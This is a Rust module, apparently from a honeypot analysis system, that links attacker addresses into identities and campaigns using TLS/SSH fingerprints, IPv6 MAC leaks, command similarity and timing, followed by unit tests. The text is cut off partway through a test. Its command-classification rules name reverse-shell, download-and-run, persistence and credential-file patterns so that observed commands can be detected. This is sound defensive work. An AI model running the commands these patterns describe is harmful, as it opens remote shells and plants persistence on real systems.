//! Who is behind an address: fingerprint rotation observations (spec G.3),
//! IPv6 link-local leaks (G.6), identity fingerprint summaries (D.12), the
//! identity and campaign similarity rules (G.4, G.5, H.5) and connected
//! components. docs/identities.md describes how the database uses them.

use crate::keystroke::hamming64;
use serde_json::Value;
use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::{IpAddr, Ipv6Addr};

// ---- fingerprint rotation (G.3) ------------------------------------------------

/// Lines that observe one hash per (attacker, port): (event type, probe type,
/// hash field, port field). The prober's three probes (spec G.3), and the
/// client JA3 of the sniffer's ClientHello per destination port, so a client
/// that changes its TLS stack shows up as a rotation too.
pub const PROBES: [(&str, &str, &str, &str); 4] = [
    ("jarm_fingerprint", "jarm", "jarm_hash", "target_port"),
    (
        "hassh_fingerprint",
        "hassh",
        "hassh_server_hash",
        "target_port",
    ),
    ("tcpfp_fingerprint", "tcpfp", "tcpfp_hash", "target_port"),
    ("tls_client_hello", "ja3", "ja3", "dst_port"),
];

/// The (probe type, port, hash) a line observes, if it is one: a known probe
/// event with a valid port and a non-empty hash (an empty JARM hash means the
/// probe got no answer). The hash keys stored rows, so a value no real hash
/// is as long as is bounded (`bound::index_key`).
pub fn probe_observation<'a>(
    event_type: Option<&str>,
    field: impl Fn(&str) -> Option<&'a str>,
) -> Option<(&'static str, i32, Cow<'a, str>)> {
    let (_, probe_type, hash_field, port_field) =
        PROBES.iter().find(|(e, _, _, _)| Some(*e) == event_type)?;
    let port: u16 = field(port_field)?.trim().parse().ok()?;
    let hash = field(hash_field)?.trim();
    (!hash.is_empty()).then(|| (*probe_type, i32::from(port), crate::bound::index_key(hash)))
}

// ---- IPv6 link-local leaks (G.6) -------------------------------------------------

/// `("eui64", oui)` when the interface id embeds a MAC (ff:fe in the middle;
/// the OUI with the universal/local bit flipped back), `("stable_privacy", "")`
/// for any other IPv6 address, `("unknown", "")` for anything else.
pub fn ipv6_iid_classify(addr: &str) -> (&'static str, String) {
    match eui64_mac(addr) {
        Some(mac) => ("eui64", mac[..8].to_owned()),
        None if addr.trim().parse::<Ipv6Addr>().is_ok() => ("stable_privacy", String::new()),
        None => ("unknown", String::new()),
    }
}

/// The MAC address an EUI-64 interface id was built from (`aa:bb:cc:dd:ee:ff`).
pub fn eui64_mac(addr: &str) -> Option<String> {
    let v6: Ipv6Addr = addr.trim().parse().ok()?;
    let iid = &v6.octets()[8..];
    (iid[3] == 0xff && iid[4] == 0xfe).then(|| {
        let mac = [iid[0] ^ 0x02, iid[1], iid[2], iid[5], iid[6], iid[7]];
        mac.iter()
            .map(|b| format!("{b:02x}"))
            .collect::<Vec<_>>()
            .join(":")
    })
}

/// Whether an address is IPv6 link-local (fe80::/10), the only leak source.
pub fn is_link_local_v6(ip: IpAddr) -> bool {
    matches!(ip, IpAddr::V6(v6) if (v6.segments()[0] & 0xffc0) == 0xfe80)
}

/// The link-local source address of an `ipv6_link_local_leak` line, if it
/// really is link-local: sensors only report those, a global source is no leak.
pub fn leaked_link_local(event_type: Option<&str>, src_ip: Option<&str>) -> Option<IpAddr> {
    if event_type != Some("ipv6_link_local_leak") {
        return None;
    }
    crate::addr::parse_ip(src_ip?).filter(|ip| is_link_local_v6(*ip))
}

/// The IPv4 address a leak line ties the link-local source to (`attacker_v4`, empty when unknown).
pub fn leak_attacker_v4(value: Option<&str>) -> Option<IpAddr> {
    crate::addr::parse_ip(value?.trim()).filter(IpAddr::is_ipv4)
}

// ---- identity fingerprint summary (D.12) -----------------------------------------

/// Identity fingerprint columns: (column, fingerprint_type, payload key).
/// DECNET computes ja4h and ja4_quic and then drops them (spec K.11); we keep
/// them, and the client JA4 of the sniffer's TLS bounties too.
pub const SUMMARY_COLUMNS: [(&str, &str, &str); 6] = [
    ("ja3_hashes", "ja3", "ja3"),
    ("ja4_hashes", "ja3", "ja4"),
    ("hassh_hashes", "hassh_server", "hash"),
    ("tls_cert_sha256", "tls_certificate", "cert_sha256"),
    ("ja4h_hashes", "ja4h", "ja4h"),
    ("ja4_quic_hashes", "ja4_quic", "ja4_quic"),
];

/// Sorted distinct values per summary column; `None` (not an empty list) for a
/// column without a value. `entries` is a list of bounty rows or payloads, or
/// a JSON string of one; anything else has no values.
pub fn fingerprint_summary(entries: &Value) -> BTreeMap<&'static str, Option<Vec<String>>> {
    let decoded;
    let entries = match entries {
        Value::String(s) => {
            decoded = serde_json::from_str::<Value>(s).unwrap_or(Value::Null);
            &decoded
        }
        v => v,
    };
    let mut sets: BTreeMap<&'static str, BTreeSet<String>> = BTreeMap::new();
    for entry in entries.as_array().map(Vec::as_slice).unwrap_or_default() {
        let payload = match entry.get("payload") {
            Some(Value::String(s)) => serde_json::from_str::<Value>(s).unwrap_or(Value::Null),
            Some(p @ Value::Object(_)) => p.clone(),
            _ => entry.clone(),
        };
        let Some(fp_type) = payload.get("fingerprint_type").and_then(Value::as_str) else {
            continue;
        };
        for (column, t, key) in SUMMARY_COLUMNS {
            if t == fp_type {
                if let Some(v) = payload
                    .get(key)
                    .and_then(Value::as_str)
                    .filter(|v| !v.is_empty())
                {
                    sets.entry(column).or_default().insert(v.to_owned());
                }
            }
        }
    }
    SUMMARY_COLUMNS
        .iter()
        .map(|(c, _, _)| (*c, sets.remove(c).map(|s| s.into_iter().collect())))
        .collect()
}

// ---- identity similarity (G.4) ---------------------------------------------------

pub const EDGE_THRESHOLD: f64 = 1.0;
pub const KD_HAMMING_MAX: u32 = 8;

/// What one attacker brings to identity resolution. `fingerprints` are
/// `kind:value` strings of strong signals (ja3, ja4, hassh, tls_cert, mac).
#[derive(Debug, Default, Clone)]
pub struct Observation {
    pub fingerprints: BTreeSet<String>,
    pub payload_hashes: BTreeSet<String>,
    pub c2_endpoints: BTreeSet<String>,
    pub commands_by_phase: BTreeMap<String, BTreeSet<String>>,
    pub credentials: BTreeSet<(String, String)>,
    pub asn: Option<i64>,
    pub kd_simhash: Option<u64>,
}

fn strings(v: Option<&Value>) -> BTreeSet<String> {
    v.and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .map(str::to_owned)
        .collect()
}

/// A keystroke SimHash as its 8 stored bytes (big-endian, as kd_centroid writes it).
pub fn simhash_from_bytes(bytes: &[u8]) -> Option<u64> {
    Some(u64::from_be_bytes(bytes.try_into().ok()?))
}

/// Commands grouped by the kill-chain phase given with each.
pub fn commands_by_phase<'a>(
    phased: impl IntoIterator<Item = (&'a str, &'a str)>,
) -> BTreeMap<String, BTreeSet<String>> {
    let mut by_phase: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for (phase, command) in phased {
        by_phase
            .entry(phase.to_owned())
            .or_default()
            .insert(command.to_owned());
    }
    by_phase
}

/// A keystroke SimHash given as 16 hex digits (what to_hex of the bytea gives).
pub fn simhash_from_hex(v: Option<&Value>) -> Option<u64> {
    v?.as_str()
        .filter(|h| h.len() == 16)
        .and_then(|h| u64::from_str_radix(h, 16).ok())
}

impl Observation {
    /// From `{fingerprints: [kind:value], payload_hashes, c2_endpoints,
    /// commands: {phase: [command]}, credentials: [[user, secret]], asn, kd: hex}`;
    /// missing or mistyped members are empty.
    pub fn from_json(v: &Value) -> Observation {
        Observation {
            fingerprints: strings(v.get("fingerprints")),
            payload_hashes: strings(v.get("payload_hashes")),
            c2_endpoints: strings(v.get("c2_endpoints")),
            commands_by_phase: v
                .get("commands")
                .and_then(Value::as_object)
                .into_iter()
                .flatten()
                .map(|(phase, cmds)| (phase.clone(), strings(Some(cmds))))
                .collect(),
            credentials: v
                .get("credentials")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(|c| {
                    Some((
                        c.get(0)?.as_str()?.to_owned(),
                        c.get(1)?.as_str()?.to_owned(),
                    ))
                })
                .collect(),
            asn: v.get("asn").and_then(Value::as_i64),
            kd_simhash: simhash_from_hex(v.get("kd")),
        }
    }
}

fn kind_of(fp: &str) -> &str {
    fp.split_once(':').map_or(fp, |(k, _)| k)
}

fn jaccard<T: Ord>(a: &BTreeSet<T>, b: &BTreeSet<T>) -> f64 {
    if a.is_empty() || b.is_empty() {
        return 0.0;
    }
    let inter = a.intersection(b).count();
    inter as f64 / (a.len() + b.len() - inter) as f64
}

/// 1.0 when a strong fingerprint is shared. Otherwise the veto: when every
/// fingerprint kind both sides have disagrees, they are different tools and
/// nothing else can make the tier fire. Otherwise shared payloads or C2 give 1.0.
pub fn high_tier(a: &Observation, b: &Observation) -> f64 {
    if a.fingerprints
        .intersection(&b.fingerprints)
        .next()
        .is_some()
    {
        return 1.0;
    }
    let kinds = |o: &Observation| {
        o.fingerprints
            .iter()
            .map(|f| kind_of(f).to_owned())
            .collect::<BTreeSet<_>>()
    };
    if kinds(a).intersection(&kinds(b)).next().is_some() {
        return 0.0; // comparable kinds exist and none agrees
    }
    let shares = |x: &BTreeSet<String>, y: &BTreeSet<String>| x.intersection(y).next().is_some();
    if shares(&a.payload_hashes, &b.payload_hashes) || shares(&a.c2_endpoints, &b.c2_endpoints) {
        1.0
    } else {
        0.0
    }
}

/// The best Jaccard of command sets over the phases both used.
pub fn medium_tier(a: &Observation, b: &Observation) -> f64 {
    a.commands_by_phase
        .iter()
        .filter_map(|(phase, cmds)| {
            b.commands_by_phase
                .get(phase)
                .map(|other| jaccard(cmds, other))
        })
        .fold(0.0, f64::max)
}

pub fn low_tier(a: &Observation, b: &Observation) -> f64 {
    jaccard(&a.credentials, &b.credentials)
}

pub fn very_low_tier(a: &Observation, b: &Observation) -> f64 {
    match (a.asn, b.asn) {
        (Some(x), Some(y)) if x == y => 1.0,
        _ => 0.0,
    }
}

/// `1 - d/8` for two keystroke SimHashes closer than 8 bits, else 0 (H.5).
pub fn keystroke_weight(a: Option<u64>, b: Option<u64>) -> f64 {
    match (a, b) {
        (Some(x), Some(y)) if hamming64(x, y) < KD_HAMMING_MAX => {
            1.0 - f64::from(hamming64(x, y)) / f64::from(KD_HAMMING_MAX)
        }
        _ => 0.0,
    }
}

/// The weight of each tier in an identity edge: DECNET's (high, medium, low,
/// very low = ASN) plus the keystroke rhythm at its campaign weight.
pub const HIGH_WEIGHT: f64 = 1.0;
pub const MEDIUM_WEIGHT: f64 = 0.6;
pub const LOW_WEIGHT: f64 = 0.2;
pub const VERY_LOW_WEIGHT: f64 = 0.05;
pub const KEYSTROKE_WEIGHT: f64 = 0.6;

/// Identity edge weight: the tiers at their weights, so a shared rhythm links
/// two addresses only together with shared commands or credentials.
pub fn identity_similarity(a: &Observation, b: &Observation) -> f64 {
    HIGH_WEIGHT * high_tier(a, b)
        + MEDIUM_WEIGHT * medium_tier(a, b)
        + LOW_WEIGHT * low_tier(a, b)
        + VERY_LOW_WEIGHT * very_low_tier(a, b)
        + KEYSTROKE_WEIGHT * keystroke_weight(a.kd_simhash, b.kd_simhash)
}

/// One reason two addresses are linked: the signal they share, its tier, and
/// the tier's contribution to the edge (rows of one tier share it; the
/// contributions of the distinct tiers add up to identity_similarity).
#[derive(Debug, Clone, PartialEq)]
pub struct LinkReason {
    pub tier: &'static str,
    pub kind: String,
    pub value: String,
    pub weight: f64,
}

/// Why identity_similarity gives what it gives: every shared value behind a
/// tier that contributes. Values are bounded like every other key
/// (`bound::index_key`).
pub fn link_reasons(a: &Observation, b: &Observation) -> Vec<LinkReason> {
    let mut out = Vec::new();
    let mut push = |tier, kind: &str, value: &str, weight| {
        out.push(LinkReason {
            tier,
            kind: kind.to_owned(),
            value: crate::bound::index_key(value).into_owned(),
            weight,
        })
    };
    if high_tier(a, b) > 0.0 {
        let shared_fps: Vec<&String> = a.fingerprints.intersection(&b.fingerprints).collect();
        for fp in &shared_fps {
            let (kind, value) = fp.split_once(':').unwrap_or(("fingerprint", fp));
            push("high", kind, value, HIGH_WEIGHT);
        }
        if shared_fps.is_empty() {
            for v in a.payload_hashes.intersection(&b.payload_hashes) {
                push("high", "payload_hash", v, HIGH_WEIGHT);
            }
            for v in a.c2_endpoints.intersection(&b.c2_endpoints) {
                push("high", "c2", v, HIGH_WEIGHT);
            }
        }
    }
    // the phase that gives the medium tier its best Jaccard
    let best_phase = a
        .commands_by_phase
        .iter()
        .filter_map(|(phase, cmds)| {
            b.commands_by_phase
                .get(phase)
                .map(|other| (phase, cmds, other, jaccard(cmds, other)))
        })
        .filter(|x| x.3 > 0.0)
        .max_by(|x, y| x.3.total_cmp(&y.3));
    if let Some((phase, cmds, other, j)) = best_phase {
        let shared: Vec<&str> = cmds.intersection(other).map(String::as_str).collect();
        push(
            "medium",
            &format!("commands:{phase}"),
            &shared.join("\n"),
            MEDIUM_WEIGHT * j,
        );
    }
    let low = low_tier(a, b);
    if low > 0.0 {
        let shared: Vec<String> = a
            .credentials
            .intersection(&b.credentials)
            .map(|(u, p)| format!("{u}:{p}"))
            .collect();
        push("low", "credentials", &shared.join("\n"), LOW_WEIGHT * low);
    }
    if let (Some(asn), 1.0) = (a.asn, very_low_tier(a, b)) {
        push("very_low", "asn", &format!("AS{asn}"), VERY_LOW_WEIGHT);
    }
    let kd = keystroke_weight(a.kd_simhash, b.kd_simhash);
    if let (Some(x), Some(y), true) = (a.kd_simhash, b.kd_simhash, kd > 0.0) {
        push(
            "keystroke",
            "kd_simhash",
            &format!("{x:016x}~{y:016x} ({} bits apart)", hamming64(x, y)),
            KEYSTROKE_WEIGHT * kd,
        );
    }
    out
}

// ---- campaign similarity (G.5) ---------------------------------------------------

pub const CAMPAIGN_EDGE_THRESHOLD: f64 = 1.0;
pub const HANDOFF_WINDOW_S: f64 = 86_400.0;

/// What one identity brings to campaign clustering. Per decky: the first and
/// last kill-chain phase seen there, with their times (epoch seconds).
#[derive(Debug, Default, Clone)]
pub struct CampaignView {
    pub first_phase: BTreeMap<String, (String, f64)>,
    pub last_phase: BTreeMap<String, (String, f64)>,
    pub infrastructure: BTreeSet<String>,
    pub windows: Vec<(f64, f64)>,
    pub cohort: BTreeSet<String>,
    pub kd_simhash: Option<u64>,
}

impl CampaignView {
    /// From `{first: {decky: [phase, epoch_s]}, last: {…}, infrastructure: [],
    /// windows: [[start_s, end_s]], cohort: [], kd: hex}`.
    pub fn from_json(v: &Value) -> CampaignView {
        let phases = |k: &str| {
            v.get(k)
                .and_then(Value::as_object)
                .into_iter()
                .flatten()
                .filter_map(|(decky, p)| {
                    Some((
                        decky.clone(),
                        (p.get(0)?.as_str()?.to_owned(), p.get(1)?.as_f64()?),
                    ))
                })
                .collect()
        };
        CampaignView {
            first_phase: phases("first"),
            last_phase: phases("last"),
            infrastructure: strings(v.get("infrastructure")),
            windows: v
                .get("windows")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(|w| Some((w.get(0)?.as_f64()?, w.get(1)?.as_f64()?)))
                .collect(),
            cohort: strings(v.get("cohort")),
            kd_simhash: simhash_from_hex(v.get("kd")),
        }
    }
}

/// The phases a hand-off leaves a decky in, and those the next identity
/// starts there with (cluster_campaigns' SQL pre-filter reads these too).
pub const HANDOFF_LEAVING_PHASES: [&str; 2] = ["command_and_control", "persistence"];
pub const HANDOFF_ARRIVING_PHASES: [&str; 2] = ["discovery", "lateral_movement"];

fn handoff_one_way(a: &CampaignView, b: &CampaignView) -> bool {
    a.last_phase.iter().any(|(decky, (phase, t_last))| {
        HANDOFF_LEAVING_PHASES.contains(&phase.as_str())
            && b.first_phase.get(decky).is_some_and(|(p, t_first)| {
                HANDOFF_ARRIVING_PHASES.contains(&p.as_str())
                    && (0.0..=HANDOFF_WINDOW_S).contains(&(t_first - t_last))
            })
    })
}

/// 1.0 when one identity leaves a decky established (C2 or persistence) and
/// the other starts there (discovery or lateral movement) within 24 hours.
pub fn phase_handoff(a: &CampaignView, b: &CampaignView) -> f64 {
    if handoff_one_way(a, b) || handoff_one_way(b, a) {
        1.0
    } else {
        0.0
    }
}

/// Time both were active over A's total active time, capped at 1.
pub fn temporal_overlap(a: &[(f64, f64)], b: &[(f64, f64)]) -> f64 {
    let total: f64 = a.iter().map(|(s, e)| (e - s).max(0.0)).sum();
    if total <= 0.0 {
        return 0.0;
    }
    let overlap: f64 = a
        .iter()
        .flat_map(|(s1, e1)| {
            b.iter()
                .map(move |(s2, e2)| (e1.min(*e2) - s1.max(*s2)).max(0.0))
        })
        .sum();
    (overlap / total).min(1.0)
}

pub fn campaign_similarity(a: &CampaignView, b: &CampaignView) -> f64 {
    1.0 * phase_handoff(a, b)
        + 1.0 * jaccard(&a.infrastructure, &b.infrastructure)
        + 0.4 * temporal_overlap(&a.windows, &b.windows)
        + 0.1 * jaccard(&a.cohort, &b.cohort)
        + 0.6 * keystroke_weight(a.kd_simhash, b.kd_simhash)
}

/// What a command does, as a kill-chain phase and the MITRE ATT&CK
/// (Enterprise) technique it is an instance of. The rules are ordered: the
/// first that matches gives the command's phase (the most telling phase
/// wins); every rule that matches gives a technique.
pub struct CommandRule {
    pub phase: &'static str,
    pub technique: &'static str,
    pub technique_name: &'static str,
    matches: fn(&str) -> bool,
}

fn has(c: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| c.contains(n))
}

/// The command rules, on the lower-cased command.
pub const COMMAND_RULES: &[CommandRule] = &[
    CommandRule {
        phase: "persistence",
        technique: "T1053.003",
        technique_name: "Scheduled Task/Job: Cron",
        matches: |c| has(c, &["crontab"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1098.004",
        technique_name: "Account Manipulation: SSH Authorized Keys",
        matches: |c| has(c, &["authorized_keys"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1543.002",
        technique_name: "Create or Modify System Process: Systemd Service",
        matches: |c| has(c, &["systemctl enable"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1037.004",
        technique_name: "Boot or Logon Initialization Scripts: RC Scripts",
        matches: |c| has(c, &["rc.local", "/etc/init.d/"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1136.001",
        technique_name: "Create Account: Local Account",
        matches: |c| has(c, &["useradd", "adduser"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1546.004",
        technique_name: "Event Triggered Execution: Unix Shell Configuration Modification",
        matches: |c| has(c, &[".bashrc"]),
    },
    CommandRule {
        phase: "persistence",
        technique: "T1222.002",
        technique_name: "File and Directory Permissions Modification: Linux and Mac",
        matches: |c| has(c, &["chattr +i"]),
    },
    CommandRule {
        phase: "command_and_control",
        technique: "T1059.004",
        technique_name: "Command and Scripting Interpreter: Unix Shell",
        matches: |c| {
            has(
                c,
                &[
                    "/dev/tcp/",
                    "nc -e",
                    "ncat ",
                    "bash -i",
                    "| sh",
                    "|sh",
                    "| bash",
                    "|bash",
                    "socat ",
                ],
            )
        },
    },
    CommandRule {
        phase: "command_and_control",
        technique: "T1105",
        technique_name: "Ingress Tool Transfer",
        matches: |c| {
            has(c, &["wget ", "curl ", "tftp "])
                && has(c, &["http://", "https://", "chmod +x", "./"])
        },
    },
    CommandRule {
        phase: "lateral_movement",
        technique: "T1021.004",
        technique_name: "Remote Services: SSH",
        matches: |c| has(c, &["ssh ", "scp ", "sshpass", "rsync "]) && c.contains('@'),
    },
    CommandRule {
        phase: "discovery",
        technique: "T1082",
        technique_name: "System Information Discovery",
        matches: |c| {
            has(
                c,
                &[
                    "uname",
                    "hostname",
                    "/proc/cpuinfo",
                    "lscpu",
                    "nproc",
                    "uptime",
                    "free -",
                    "df -",
                    "cat /etc/os-release",
                ],
            )
        },
    },
    CommandRule {
        phase: "discovery",
        technique: "T1033",
        technique_name: "System Owner/User Discovery",
        matches: |c| has(c, &["whoami"]) || c.trim() == "id" || c.trim() == "w",
    },
    CommandRule {
        phase: "discovery",
        technique: "T1087.001",
        technique_name: "Account Discovery: Local Account",
        matches: |c| has(c, &["/etc/passwd"]),
    },
    CommandRule {
        phase: "discovery",
        technique: "T1016",
        technique_name: "System Network Configuration Discovery",
        matches: |c| has(c, &["ifconfig", "ip a", "netstat"]),
    },
    CommandRule {
        phase: "discovery",
        technique: "T1057",
        technique_name: "Process Discovery",
        matches: |c| has(c, &["ps aux"]),
    },
    CommandRule {
        phase: "discovery",
        technique: "T1083",
        technique_name: "File and Directory Discovery",
        matches: |c| c.starts_with("ls"),
    },
];

/// Kill-chain phase of a command, by what the command does; `None` when it
/// says nothing (the first of [`COMMAND_RULES`] that matches).
pub fn command_phase(command: &str) -> Option<&'static str> {
    let c = command.to_ascii_lowercase();
    COMMAND_RULES
        .iter()
        .find(|r| (r.matches)(&c))
        .map(|r| r.phase)
}

/// Every ATT&CK technique a command is an instance of (all matching rules).
pub fn command_techniques(command: &str) -> Vec<&'static CommandRule> {
    let c = command.to_ascii_lowercase();
    COMMAND_RULES.iter().filter(|r| (r.matches)(&c)).collect()
}

/// The servers a command reaches out to, as `host:port`: URLs (http, https,
/// ftp, tftp; default ports) and bash's `/dev/tcp/host/port`. What a dropper
/// downloads from or a reverse shell calls back to is the attacker's
/// infrastructure: shared, it ties actors together (spec G.4 high tier, G.5).
pub fn c2_endpoints(command: &str) -> Vec<String> {
    use regex::Regex;
    use std::sync::OnceLock;
    static URL: OnceLock<Regex> = OnceLock::new();
    static DEV_TCP: OnceLock<Regex> = OnceLock::new();
    let url = URL.get_or_init(|| {
        Regex::new(r"(?i)\b(https?|ftp|tftp)://(\[[0-9a-f:]+\]|[a-z0-9.-]+)(?::(\d{1,5}))?")
            .expect("valid regex")
    });
    let dev_tcp = DEV_TCP
        .get_or_init(|| Regex::new(r"(?i)/dev/tcp/([a-z0-9.-]+)/(\d{1,5})").expect("valid regex"));
    let mut out: BTreeSet<String> = BTreeSet::new();
    for c in url.captures_iter(command) {
        let default = match c[1].to_ascii_lowercase().as_str() {
            "https" => "443",
            "ftp" => "21",
            "tftp" => "69",
            _ => "80",
        };
        let host = c[2].trim_end_matches('.').to_ascii_lowercase();
        if !host.is_empty() {
            out.insert(format!(
                "{host}:{}",
                c.get(3).map_or(default, |p| p.as_str())
            ));
        }
    }
    for c in dev_tcp.captures_iter(command) {
        out.insert(format!("{}:{}", c[1].to_ascii_lowercase(), &c[2]));
    }
    out.into_iter().collect()
}

// ---- candidate pairs -------------------------------------------------------------

/// Visits the candidate pairs among attackers grouped by a shared signal
/// value: each pair of different members of one group with at least one member
/// in scope, once however many values they share (smaller name first, in
/// order). `members` is (group, attacker, in scope) per membership, in any
/// order. Pairs are made per attacker from its neighbours, so memory follows
/// the memberships, not the pairs (a full pass can have millions).
pub fn for_each_candidate_pair<'a>(
    members: impl IntoIterator<Item = (i64, &'a str, bool)>,
    mut visit: impl FnMut(&'a str, &'a str),
) {
    let mut groups: HashMap<i64, Vec<(&str, bool)>> = HashMap::new();
    let mut attackers: BTreeMap<&str, (bool, Vec<i64>)> = BTreeMap::new();
    for (group, attacker, in_scope) in members {
        groups.entry(group).or_default().push((attacker, in_scope));
        let entry = attackers.entry(attacker).or_default();
        entry.0 |= in_scope;
        entry.1.push(group);
    }
    let mut neighbours: BTreeSet<&str> = BTreeSet::new();
    for (&x, (x_in, x_groups)) in &attackers {
        neighbours.clear();
        for group in x_groups {
            neighbours.extend(
                groups[group]
                    .iter()
                    .filter(|&&(y, y_in)| y > x && (*x_in || y_in))
                    .map(|&(y, _)| y),
            );
        }
        for &y in &neighbours {
            visit(x, y);
        }
    }
}

// ---- connected components ----------------------------------------------------------

/// Connected components of an undirected graph given as edges between labels.
/// Every label maps to the smallest label of its component, so the result does
/// not depend on edge order.
pub fn connected_components<'a>(
    edges: impl IntoIterator<Item = (&'a str, &'a str)>,
) -> HashMap<&'a str, &'a str> {
    let mut index: HashMap<&str, usize> = HashMap::new();
    let mut labels: Vec<&str> = Vec::new();
    let mut parent: Vec<usize> = Vec::new();
    fn find(parent: &mut [usize], mut x: usize) -> usize {
        while parent[x] != x {
            parent[x] = parent[parent[x]];
            x = parent[x];
        }
        x
    }
    for (a, b) in edges {
        let mut id = |l: &'a str| {
            *index.entry(l).or_insert_with(|| {
                labels.push(l);
                parent.push(parent.len());
                parent.len() - 1
            })
        };
        let (x, y) = (id(a), id(b));
        let (rx, ry) = (find(&mut parent, x), find(&mut parent, y));
        if rx != ry {
            // the root is the smallest label, so the answer is order-independent
            if labels[rx] <= labels[ry] {
                parent[ry] = rx
            } else {
                parent[rx] = ry
            }
        }
    }
    (0..labels.len())
        .map(|i| (labels[i], labels[find(&mut parent, i)]))
        .collect()
}

/// After a fresh clustering, which previous group (identity or campaign) each
/// component carries on, so ids stay stable across full passes. `members`
/// holds (component, previous group) per member that had one. Each previous
/// group is claimed by the component holding most of its members (ties: the
/// smallest component); a component keeps, of the groups it claimed, the one
/// with most members there (ties: the smallest id). Returns (previous group,
/// claiming component, kept) for every previous group: a group not kept is
/// merged into whatever its claiming component becomes.
pub fn keep_previous_groups<'a>(
    members: impl IntoIterator<Item = (&'a str, &'a str)>,
) -> Vec<(&'a str, &'a str, bool)> {
    let mut counts: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    for (component, previous) in members {
        *counts.entry((previous, component)).or_default() += 1;
    }
    // claim: previous -> (component, n), most members first, then the smallest component
    let mut claims: BTreeMap<&str, (&str, usize)> = BTreeMap::new();
    for (&(previous, component), &n) in &counts {
        let best = claims.entry(previous).or_insert((component, n));
        if n > best.1 {
            *best = (component, n);
        }
    }
    // keep: component -> previous, most members first, then the smallest id
    let mut kept: BTreeMap<&str, (&str, usize)> = BTreeMap::new();
    for (&previous, &(component, n)) in &claims {
        let best = kept.entry(component).or_insert((previous, n));
        if n > best.1 {
            *best = (previous, n);
        }
    }
    claims
        .into_iter()
        .map(|(previous, (component, _))| {
            (
                previous,
                component,
                kept.get(component).is_some_and(|(p, _)| *p == previous),
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn obs(fps: &[&str]) -> Observation {
        Observation {
            fingerprints: fps.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }
    fn set(v: &[&str]) -> BTreeSet<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    // cases 6.7 (prober side): what the prober feeds the rotation recorder
    #[test]
    fn probe_observations() {
        let f = |m: &'static [(&'static str, &'static str)]| {
            move |k: &str| m.iter().find(|(n, _)| *n == k).map(|(_, v)| *v)
        };
        assert_eq!(
            probe_observation(
                Some("hassh_fingerprint"),
                f(&[("target_port", "22"), ("hassh_server_hash", "deadbeef")])
            ),
            Some(("hassh", 22, "deadbeef".into()))
        );
        assert_eq!(
            probe_observation(
                Some("tcpfp_fingerprint"),
                f(&[("target_port", "22"), ("tcpfp_hash", "tcpfp-hash-1")])
            ),
            Some(("tcpfp", 22, "tcpfp-hash-1".into()))
        );
        assert_eq!(
            probe_observation(
                Some("jarm_fingerprint"),
                f(&[("target_port", "443"), ("jarm_hash", "")])
            ),
            None,
            "empty JARM = no result"
        );
        assert_eq!(
            probe_observation(
                Some("jarm_fingerprint"),
                f(&[("target_port", "x"), ("jarm_hash", "c0c")])
            ),
            None
        );
        assert_eq!(
            probe_observation(Some("prober_error"), f(&[("target_port", "443")])),
            None
        );
        assert_eq!(
            probe_observation(
                Some("tls_client_hello"),
                f(&[("dst_port", "443"), ("ja3", "e7d7")])
            ),
            Some(("ja3", 443, "e7d7".into()))
        );
        assert_eq!(
            probe_observation(
                Some("tls_session"),
                f(&[("dst_port", "443"), ("ja3", "e7d7")])
            ),
            None,
            "one handshake, one observation"
        );
        let long: &'static str = Box::leak("a".repeat(6000).into_boxed_str());
        let (_, _, hash) = probe_observation(Some("hassh_fingerprint"), move |k: &str| match k {
            "target_port" => Some("22"),
            "hassh_server_hash" => Some(long),
            _ => None,
        })
        .unwrap();
        assert!(
            hash.len() <= crate::bound::MAX_KEY_BYTES,
            "issue 15: a 6,000-character hash keyed fingerprint_state"
        );
    }

    // cases 6.5
    #[test]
    fn ipv6_interface_ids() {
        assert_eq!(
            ipv6_iid_classify("fe80::aabb:ccff:fedd:eeff"),
            ("eui64", "a8:bb:cc".to_string())
        );
        assert_eq!(
            eui64_mac("fe80::aabb:ccff:fedd:eeff").as_deref(),
            Some("a8:bb:cc:dd:ee:ff")
        );
        assert_eq!(
            ipv6_iid_classify("fe80::1234:5678:9abc:def0"),
            ("stable_privacy", String::new())
        );
        assert_eq!(
            ipv6_iid_classify("not-an-address"),
            ("unknown", String::new())
        );
        assert_eq!(ipv6_iid_classify("1.2.3.4"), ("unknown", String::new()));
        assert!(is_link_local_v6("fe80::1".parse().unwrap()));
        assert!(!is_link_local_v6("2001:db8::1".parse().unwrap()));
        assert!(!is_link_local_v6("10.0.0.1".parse().unwrap()));
    }

    fn fp(t: &str, k: &str, v: Value) -> Value {
        json!({"bounty_type": "fingerprint", "payload": {"fingerprint_type": t, k: v}})
    }

    // cases 3.3
    #[test]
    fn summaries() {
        let s = fingerprint_summary(&json!([]));
        assert!(s.values().all(Option::is_none));
        for key in [
            "ja3_hashes",
            "hassh_hashes",
            "tls_cert_sha256",
            "ja4h_hashes",
            "ja4_quic_hashes",
        ] {
            assert!(s.contains_key(key), "{key}");
        }
        let ab = "ab".repeat(32);
        let s = fingerprint_summary(&json!([
            fp("tls_certificate", "cert_sha256", json!(ab)),
            fp("tls_certificate", "cert_sha256", json!(ab))
        ]));
        assert_eq!(s["tls_cert_sha256"], Some(vec![ab.clone()]));
        assert_eq!(s["ja3_hashes"], None);
        let certs: Vec<Value> = ["ff", "11", "aa"]
            .iter()
            .map(|c| fp("tls_certificate", "cert_sha256", json!(c.repeat(32))))
            .collect();
        assert_eq!(
            fingerprint_summary(&json!(certs))["tls_cert_sha256"],
            Some(vec!["11".repeat(32), "aa".repeat(32), "ff".repeat(32)])
        );
        let s = fingerprint_summary(&json!([
            fp("ja3", "ja3", json!("ja3-abc")),
            fp("hassh_server", "hash", json!("hassh-def")),
            fp("tls_certificate", "cert_sha256", json!(ab))
